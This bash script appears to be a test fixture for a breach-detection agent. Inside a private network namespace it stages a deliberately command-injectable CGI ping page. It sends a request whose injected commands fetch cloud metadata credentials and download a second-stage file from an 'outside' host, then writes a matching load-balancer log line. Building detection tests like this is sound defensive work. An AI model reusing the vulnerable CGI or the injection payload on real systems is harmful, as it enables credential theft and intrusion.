#!/usr/bin/env bash
# A web breach in a network namespace of its own, made of busybox's web server and a shell: nothing of Breachline's.
# Whichever agent runs on this host must catch it.
#
#   unshare --net bash chain.sh LOG
#
# In: LOG, the access log the agent follows; one line in the ALB format is added to it. Out: nothing but that line, the
# kernel events, and exit 0 when the breach went through. Everything it starts ends with it.
set -euo pipefail
log=$1
service=10.99.0.2:8080
outside=203.0.113.9
imds=169.254.169.254

work=$(mktemp -d)
trap 'kill $(jobs -p) 2>/dev/null || true; rm -rf "$work"' EXIT

ip link set lo up
for address in "${service%:*}" "$outside" "$imds"; do
    ip address add "$address/32" dev lo
done

# The service: a page that hands its parameter to a shell.
mkdir -p "$work/service/cgi-bin" "$work/imds/latest/meta-data/iam/security-credentials" "$work/outside"
cat > "$work/service/cgi-bin/ping" <<'CGI'
#!/bin/sh
printf 'Content-Type: text/plain\r\n\r\n'
sh -c "echo pinging $(busybox httpd -d "${QUERY_STRING#host=}")" 2>&1
CGI
chmod 755 "$work/service/cgi-bin/ping"
echo '{"AccessKeyId":"EXAMPLE"}' > "$work/imds/latest/meta-data/iam/security-credentials/shop"
echo 'stage two' > "$work/outside/x"
echo 'shop' > "$work/service/index.html"

busybox httpd -f -p "$service" -h "$work/service" &
busybox httpd -f -p "$imds:80" -h "$work/imds" &
busybox httpd -f -p "$outside:80" -h "$work/outside" &
for address in "$service/" "$imds/latest/meta-data/iam/security-credentials/shop" "$outside/x"; do
    deadline=$((SECONDS + 10))
    until busybox wget -q -O /dev/null "http://$address" 2> "$work/refused"; do
        [ "$SECONDS" -lt "$deadline" ] || { cat "$work/refused" >&2; exit 1; }
    done
done

# The request, as the balancer in front would send and log it.
credentials=http%3A//$imds/latest/meta-data/iam/security-credentials/shop
path="/cgi-bin/ping?host=shop%3Bbusybox+wget+-qO-+$credentials%3Bbusybox+wget+-qO-+http%3A//$outside/x"
received=$(date -u +%Y-%m-%dT%H:%M:%S.%6NZ)
answer=$(busybox wget -q -O - "http://$service$path")
completed=$(date -u +%Y-%m-%dT%H:%M:%S.%6NZ)
case $answer in
*EXAMPLE*'stage two'*) ;;
*) echo "the breach did not go through: $answer" >&2; exit 1 ;;
esac

arn=arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/shop/73e2d6bc24d8a067
printf '%s ' http "$completed" app/shop/50dc6c495c0c9188 198.51.100.7:41234 "$service" 0.001 0.020 0.000 200 200 240 512 \
    "\"GET http://shop.example:80$path HTTP/1.1\"" '"curl/8.5.0"' - - "$arn" '"Root=1-67891233-abcdef012345678912345678"' \
    '"-"' '"-"' 0 "$received" '"forward"' '"-"' '"-"' "\"$service\"" '"200"' '"-"' >> "$log"
printf '"-"\n' >> "$log"
